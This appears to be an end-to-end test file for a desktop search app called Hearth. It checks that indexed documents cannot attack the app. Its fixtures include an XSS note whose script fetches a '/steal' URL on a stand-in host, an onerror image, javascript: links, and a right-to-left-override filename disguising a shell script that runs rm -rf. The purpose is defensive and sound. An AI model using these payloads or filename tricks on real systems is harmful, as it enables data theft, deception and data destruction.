import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CORPUS } from '../helpers/corpus';
import { useTempDir } from '../helpers/temp-dir';
import { screenshot, useApp } from './harness';

const tempDir = useTempDir('hearth-e2e-search-');
const app = useApp();

/** A note written to attack the page that shows it: markup that would fetch, run or navigate. */
const HOSTILE_NOTE = `# Hostile note

The fence paint is <img src="http://203.0.113.7/tracker.png" onerror="alert(1)"> blue.
<script>fetch('http://203.0.113.7/steal')</script> [click](javascript:alert(2)) <a href="http://203.0.113.7/">fence</a>
`;

describe('Search screen', () => {
  it('searches the library, marks the matched words, opens the file through main, and reaches nothing outside the app', async () => {
    const folder = tempDir();
    cpSync(join(CORPUS, 'tldr/pages/common'), join(folder, 'common'), { recursive: true });
    mkdirSync(join(folder, 'notes'));
    writeFileSync(join(folder, 'notes', 'hostile.md'), HOSTILE_NOTE);
    cpSync(join(CORPUS, 'tldr/pages/windows'), join(tempDir(), 'windows'), { recursive: true });

    const session = await app.open(tempDir(), '/search');
    const { page, bridge } = session;
    // Indexing through the screen is the library test's job: here the real services index directly.
    const { library } = bridge.services;
    const commands = library.createCollection('Commands');
    library.addFolder(commands.id, folder);
    await library.index(commands.id);
    const windows = library.createCollection('Windows');
    library.addFolder(windows.id, join(CORPUS, 'tldr/pages/windows'));
    await library.index(windows.id);

    await page.reload();
    await page.getByRole('checkbox', { name: 'Windows' }).waitFor();
    await page.getByRole('checkbox', { name: 'Windows' }).uncheck();
    await page.getByLabel('Search the library').fill('use the file extension to determine the compression program');
    await page.getByRole('button', { name: 'Search' }).click();
    const hits = page.getByTestId('search-hit');
    await hits.first().waitFor();
    await expect
      .poll(() => page.getByTestId('search-summary').textContent())
      .toMatch(/passages · by keywords · \d+ ms/);
    // File names are isolated (U+2068…U+2069) so a right-to-left name cannot reorder what is beside it.
    expect(await hits.first().textContent()).toMatch(/^\u2068common\/tar\.md\u2069\s*lines \d+–\d+/);
    const marked = await hits.first().locator('mark').allTextContents();
    expect(marked.map((word) => word.toLowerCase())).toEqual(
      expect.arrayContaining(['extension', 'determine', 'compression', 'program']),
    );
    // Only the collections ticked were searched.
    const paths = await hits.evaluateAll((items) => items.map((item) => item.querySelector('span')?.textContent ?? ''));
    expect(paths.every((path) => path.startsWith('\u2068common/') || path.startsWith('\u2068notes/'))).toBe(true);
    await screenshot(page, 'search-results');

    // Markdown is text: it opens in Hearth's read-only viewer at the hit's lines, never in another program.
    await hits.first().getByRole('button', { name: 'Open file' }).click();
    const viewer = page.getByRole('dialog', { name: 'Viewing tar.md' });
    await viewer.waitFor();
    expect((await viewer.locator('[data-cited]').allTextContents()).join('\n')).toMatch(/compression program/);
    await screenshot(page, 'search-viewer');
    // A modal: focus is inside it and stays there, whatever Tab is pressed; Escape gives it back.
    const focusIn = () => viewer.evaluate((dialog) => dialog.contains(document.activeElement));
    expect(await focusIn()).toBe(true);
    for (const key of ['Tab', 'Tab', 'Tab', 'Shift+Tab', 'Shift+Tab', 'Shift+Tab', 'Shift+Tab']) {
      await page.keyboard.press(key);
      expect(await focusIn(), key).toBe(true);
    }
    await page.keyboard.press('Escape');
    await viewer.waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.textContent)).toMatch(/Open file/);
    await hits.first().getByRole('button', { name: 'Open file' }).click();
    await viewer.getByRole('button', { name: 'Close viewer' }).click();
    await hits.first().getByRole('button', { name: 'Show in folder' }).click();
    await expect.poll(() => bridge.opened.length).toBe(1);
    expect(bridge.opened).toEqual([{ action: 'show', path: join(folder, 'common', 'tar.md') }]);

    // A document's markup is shown as text: no image loads, no script runs, no link is made.
    await page.getByLabel('Search the library').fill('fence paint');
    await page.getByRole('button', { name: 'Search' }).click();
    const hostile = hits.filter({ hasText: 'notes/hostile.md' });
    await hostile.waitFor();
    const snippet = hostile.getByTestId('search-snippet');
    expect(await snippet.locator('img, script, a, iframe').count()).toBe(0);
    expect(await snippet.textContent()).toContain('<img src="http://203.0.113.7/tracker.png"');
    await screenshot(page, 'search-hostile-note');

    // Searching by meaning needs an embedding model: the screen says so instead of failing quietly.
    await page.getByLabel('Search by').selectOption('vector');
    await page.getByRole('button', { name: 'Search' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toMatch(/needs an embedding model/);
    await screenshot(page, 'search-needs-model');

    const origin = new URL(bridge.url).origin;
    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
    expect(session.errors).toEqual([]);
  });
  it('never opens a script or a program, opens only the file that was indexed, and shows names without their bidi tricks', async () => {
    const folder = tempDir();
    // A shell script whose name reads "invoicehs.txt" where bidi overrides are obeyed.
    const script = 'invoice\u202etxt.sh';
    writeFileSync(join(folder, script), '#!/bin/sh\n# quarterly invoice helper\nrm -rf "$HOME/quarterly-invoice"\n');
    // A PDF named as a script: its bytes are a PDF, but the system would run it by its name.
    cpSync(join(CORPUS, 'pdf', 'alphatrans.pdf'), join(folder, 'quarterly-invoice.js'));
    cpSync(join(CORPUS, 'pdf', 'alphatrans.pdf'), join(folder, 'quarterly-invoice.pdf'));
    writeFileSync(join(folder, 'notes.txt'), 'The quarterly invoice is due in March.\n');
    const session = await app.open(tempDir(), '/search');
    const { page, bridge } = session;
    const { library } = bridge.services;
    const collection = library.createCollection('Invoices');
    library.addFolder(collection.id, folder);
    await library.index(collection.id);
    await page.reload();
    const search = async (query: string) => {
      await page.getByLabel('Search the library').fill(query);
      await page.getByRole('button', { name: 'Search' }).click();
      await page.getByTestId('search-hit').first().waitFor();
    };
    const hit = (name: string) => page.getByTestId('search-hit').filter({ hasText: name });

    await search('quarterly invoice helper');
    const scriptHit = hit('invoice\\u202etxt.sh');
    await scriptHit.waitFor();
    expect(await page.getByTestId('search-hit').first().textContent()).not.toContain('\u202e');
    // The script opens in Hearth's read-only viewer, as text.
    await scriptHit.getByRole('button', { name: 'Open file' }).click();
    const viewer = page.getByRole('dialog');
    await viewer.waitFor();
    expect(await page.getByTestId('viewer-name').textContent()).toBe('\u2068invoice\\u202etxt.sh\u2069');
    expect(await viewer.getByTestId('viewer-text').textContent()).toContain('rm -rf');
    await screenshot(page, 'open-file-script-in-viewer');
    await viewer.getByRole('button', { name: 'Close viewer' }).click();

    // The PDF named .js: refused, with the reason; the real PDF goes to the system's viewer.
    const pdfs = bridge.services.store.library
      .prepare("SELECT id, path FROM documents WHERE type = 'pdf'")
      .all() as Array<{ id: number; path: string }>;
    expect(pdfs).toHaveLength(2);
    const named = pdfs.find((document) => document.path.endsWith('.js'))!;
    const real = pdfs.find((document) => document.path.endsWith('.pdf'))!;
    const refused = await page.evaluate(
      (id) => window.hearth!.invoke('shell.openDocument', { documentId: id }),
      named.id,
    );
    expect(refused).toMatchObject({
      ok: false,
      error: { code: 'UNSUPPORTED_FILE', message: expect.stringMatching(/“\.js” files/) },
    });
    const opened = await page.evaluate(
      (id) => window.hearth!.invoke('shell.openDocument', { documentId: id }),
      real.id,
    );
    expect(opened).toEqual({ ok: true, value: { opened: 'system' } });
    expect(bridge.opened).toEqual([{ action: 'open', path: join(folder, 'quarterly-invoice.pdf') }]);

    // A file changed since it was indexed is not opened: it is not what the user trusted.
    await search('quarterly invoice due March');
    writeFileSync(join(folder, 'notes.txt'), 'The quarterly invoice is due in April!\n');
    await hit('notes.txt').getByRole('button', { name: 'Open file' }).click();
    await page.getByText('That file has changed since it was indexed').waitFor();
    expect(bridge.opened).toHaveLength(1);
    expect(session.errors).toEqual([]);
  });
});
